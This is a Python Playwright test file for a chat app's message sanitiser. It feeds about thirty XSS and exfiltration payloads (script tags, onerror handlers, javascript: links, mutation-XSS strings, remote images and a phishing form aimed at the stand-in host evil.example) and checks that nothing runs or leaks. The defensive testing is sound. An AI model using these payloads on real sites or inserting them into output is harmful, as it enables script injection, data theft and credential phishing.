"""What a model or a stranger may write, shown without harm (docs/threats.md, A44)."""

from __future__ import annotations

import re
from typing import Any

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.page.conftest import OPEN, SIGNED_IN, OpenPage, Watch, message

EVIL = "https://evil.example"
HOSTILE = {
    "a script": "<script>globalThis.owned = 1</script>",
    "a remote image": f'<img src="{EVIL}/pixel.png">',
    "an image with a handler": "<img src=x onerror='globalThis.owned = 1'>",
    "a Markdown image": f"![secret]({EVIL}/?q=secret)",
    "a reference image": f"![secret][leak]\n\n[leak]: {EVIL}/ref.png",
    "a local image": "![x](/static/img/icon.svg)",
    "a data image": "![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    "a picture": f'<picture><source srcset="{EVIL}/a.png"><img srcset="{EVIL}/b.png 2x"></picture>',
    "a video": f'<video src="{EVIL}/v.mp4" poster="{EVIL}/p.png" autoplay></video>',
    "an audio": f'<audio src="{EVIL}/a.mp3" autoplay></audio>',
    "a frame": f'<iframe src="{EVIL}"></iframe><iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
    "an object": f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    "a style": f"<style>body {{ background: url({EVIL}/css) }}</style>",
    "a style attribute": f'<p style="background-image: url({EVIL}/bg)">x</p>',
    "a stylesheet": f'<link rel="stylesheet" href="{EVIL}/s.css"><link rel="prefetch" href="{EVIL}/f">',
    "a redirect": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "a base": f'<base href="{EVIL}/">',
    "a form": f'<form action="{EVIL}"><input name="password" autofocus><button>Sign in</button></form>',
    "an svg": f'<svg onload="globalThis.owned=1"><image href="{EVIL}/i.png"/><use href="{EVIL}/u.svg#a"/></svg>',
    "a mathml mutation": '<math><mtext><table><mglyph><style><img src=x onerror="globalThis.owned=1">',
    "a noscript mutation": '<noscript><p title="</noscript><img src=x onerror=globalThis.owned=1>">',
    "a script link": "[click](javascript:globalThis.owned=1) [click](JaVaScRiPt:globalThis.owned=1)",
    "an encoded script link": "[click](&#106;avascript:globalThis.owned=1) [c](java&#10;script:globalThis.owned=1)",
    "a data link": "[click](data:text/html,<script>globalThis.owned=1</script>) <vbscript:x>",
    "a link that breaks out": '[x](https://a.example/"onmouseover="globalThis.owned=1) <a href="//evil.example">y</a>',
    "a title that breaks out": "[x](https://a.example '\"><img src=x onerror=globalThis.owned=1>')",
    "a code block that breaks out": '```js"><img src=x onerror=globalThis.owned=1>\n</code></pre><script>1</script>\n```',
    "an inline code": "`<img src=x onerror=globalThis.owned=1>`",
    "a table that breaks out": "| a |\n|---|\n| <img src=x onerror=globalThis.owned=1> |",
    "an id that shadows": '<a id="balon" name="store">x</a><img name="getElementById">',
    "a custom element": "<balon-sign-in></balon-sign-in><balon-app></balon-app>",
    "a dialog": '<dialog open class="dialog kit">Enter your recovery code</dialog>',
    "a template": "<template shadowrootmode=open><img src=x onerror=globalThis.owned=1></template>",
}
REMAINS = """() => {
  const bad = 'script, img, picture, source, video, audio, iframe, object, embed, style, link, meta, base, form, input, '
    + 'svg:not(.icon), math, dialog, template, [style], [srcset], [src], .body [id], .body [name], .body [class*=dialog]';
  const found = [...document.querySelectorAll('.log .body')].flatMap(body => [...body.querySelectorAll(bad)]);
  const handlers = [...document.querySelectorAll('.log .body *')].filter(
    element => element.localName.includes('-') || element.getAttributeNames().some(name => name.startsWith('on')));
  return [...found, ...handlers].map(element => element.outerHTML);
}"""


def open_reply(open_page: OpenPage, *texts: str, **scenario: Any) -> Page:
    messages = [message(index + 1, "assistant", text) for index, text in enumerate(texts)]
    page = open_page({**SIGNED_IN, "messages": messages, **scenario}, OPEN)
    expect(bodies(page)).to_have_count(len(texts))
    for index in range(len(texts)):
        body = bodies(page).nth(index)
        body.scroll_into_view_if_needed()
        expect(body.locator(".block").first).to_be_attached()
    return page


def bodies(page: Page) -> Locator:
    return page.get_by_role("log").locator(".body")


def test_hostile_texts_run_nothing_request_nothing_and_leave_nothing(open_page: OpenPage, watch: Watch) -> None:
    page = open_reply(open_page, *HOSTILE.values())
    assert page.evaluate(REMAINS) == []
    assert page.evaluate("globalThis.owned") is None
    assert [url for url in watch.requests if "evil" in url or "pixel" in url or url.endswith("/x")] == []
    links = page.get_by_role("log").get_by_role("link").evaluate_all("links => links.map(link => link.protocol)")
    assert set(links) == {"https:"}
    assert page.evaluate("document.querySelectorAll('balon-app, balon-sign-in').length") == 1


def test_the_sanitiser_alone_would_stop_them_too(open_page: OpenPage, watch: Watch) -> None:
    watch.expected.append(
        "Content Security Policy"
    )  # Chromium says so of handlers in the sanitiser's own, inert document
    page = open_page()
    passed = page.evaluate(
        "async texts => { const {passed} = await import('/static/fences.js'); return texts.map(passed); }",
        list(HOSTILE.values()),
    )
    written = re.findall(r"<([a-z][\w-]*)|\s([a-z-]+)=", " ".join(passed))
    assert {tag for tag, _ in written if tag} <= {"a", "p", "code", "pre", "table", "tbody", "thead", "tr", "th", "td"}
    assert {name for tag, name in written if not tag} <= {"href", "title", "class", "rel", "target"}
    assert page.evaluate("globalThis.owned") is None
    assert "evil" not in " ".join(watch.requests)


@pytest.mark.parametrize("kind", ["a script", "a remote image", "a form", "an svg"])
def test_raw_html_is_shown_as_the_text_that_it_is(open_page: OpenPage, kind: str) -> None:
    page = open_reply(open_page, HOSTILE[kind])
    expect(bodies(page)).to_contain_text(HOSTILE[kind])


def test_hostile_text_is_harmless_while_it_streams(open_page: OpenPage, watch: Watch) -> None:
    tokens = [text[at : at + 7] for text in HOSTILE.values() for at in range(0, len(text), 7)]
    page = open_page({**SIGNED_IN, "tokens": [*tokens, "\n\nThe end."], "tokenMs": 0}, OPEN)
    page.get_by_role("textbox", name="Message", exact=True).fill("Attack")
    page.keyboard.press("Enter")
    expect(bodies(page).last).to_contain_text("The end.")
    assert page.evaluate(REMAINS) == []
    assert page.evaluate("globalThis.owned") is None
    assert "evil" not in " ".join(watch.requests)


def test_what_people_write_is_never_formatted(open_page: OpenPage) -> None:
    text = "<b>bold</b> **stars** ![x](https://evil.example/x.png)"
    messages = [message(1, "you", text), message(2, "person", text)]
    page = open_page({**SIGNED_IN, "messages": messages}, OPEN)
    for index in range(2):
        expect(bodies(page).nth(index)).to_have_text(text)
        assert bodies(page).nth(index).evaluate("body => body.childElementCount") == 0


def test_an_image_is_a_link_that_says_where_it_leads(open_page: OpenPage) -> None:
    page = open_reply(open_page, HOSTILE["a Markdown image"])
    link = bodies(page).get_by_role("link", name="Image: secret")
    expect(link).to_have_attribute("title", f"{EVIL}/?q=secret")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(link).to_have_attribute("target", "_blank")


def test_markdown_is_formatted(open_page: OpenPage) -> None:
    text = (
        "# Title\n\nSome **bold** and *soft* ~~gone~~ `code`\n\n- one\n- two\n\n3. three\n\n> quote\n\n"
        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done"
    )
    page = open_reply(open_page, text)
    body = bodies(page)
    expect(body.get_by_role("heading", level=3)).to_have_text("Title")
    for selector in ("strong", "em", "del", "ul > li", "ol[start='3'] > li", "blockquote", "td.align-right"):
        expect(body.locator(selector).first).to_be_visible()
    expect(body.get_by_role("region", name="Table")).to_be_visible()
    expect(body).to_contain_text("☑ done")


def test_code_is_coloured_and_can_be_copied(open_page: OpenPage) -> None:
    code = "const answer = 42; // <b>yes</b>"
    page = open_reply(open_page, f"```js\n{code}\n```")
    region = bodies(page).get_by_role("region", name="Code, js")
    expect(region.locator(".hljs-keyword")).to_have_text("const")
    expect(region.locator(".hljs-number")).to_have_text("42")
    expect(region).to_have_text(code)
    page.get_by_role("button", name="Copy code").click()
    expect(page.get_by_text("Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == code


def test_streamed_text_ends_as_the_same_document_as_text_that_came_at_once(open_page: OpenPage) -> None:
    text = "Intro [ref] here.\n\n1. a\n2. b\n\n   more\n\n```py\nx = 1\n```\n\n| a |\n|---|\n| b |\n\n[ref]: https://a.example\n"
    tokens = [text[at : at + 3] for at in range(0, len(text), 3)]
    page = open_page({**SIGNED_IN, "messages": [message(1, "assistant", text)], "tokens": tokens, "tokenMs": 0}, OPEN)
    expect(bodies(page).locator(".hljs-number")).to_be_visible()
    page.get_by_role("textbox", name="Message", exact=True).fill("Again")
    page.keyboard.press("Enter")
    expect(page.get_by_role("status")).to_have_text("Saved, encrypted")
    expect(bodies(page).last.locator(".hljs-number")).to_be_visible()
    assert bodies(page).last.inner_html() == bodies(page).first.inner_html()
